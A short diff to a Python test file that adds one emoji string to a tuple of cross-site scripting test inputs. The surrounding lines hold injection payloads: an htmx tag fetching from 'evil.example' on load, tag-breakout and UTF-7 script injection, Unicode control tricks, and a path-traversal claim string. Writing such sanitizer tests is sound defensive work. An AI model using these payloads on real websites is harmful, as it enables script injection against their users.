@@ -44,6 +44,7 @@ ATTACKS = (
     '<a hx-get="//evil.example" hx-trigger="load">x</a>',
     "</title></textarea></select></style></script><script>alert(1)</script>",
     "\u202e<script>\u2028alert(1)\r\n</script>\x00\ud800",
+    "🧬🧬 <b>wide</b>",
     "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
 )
 HOSTILE_CLAIM = "K\"><script>alert('claim')</script>/../%2e%2e?x=1&y#z"
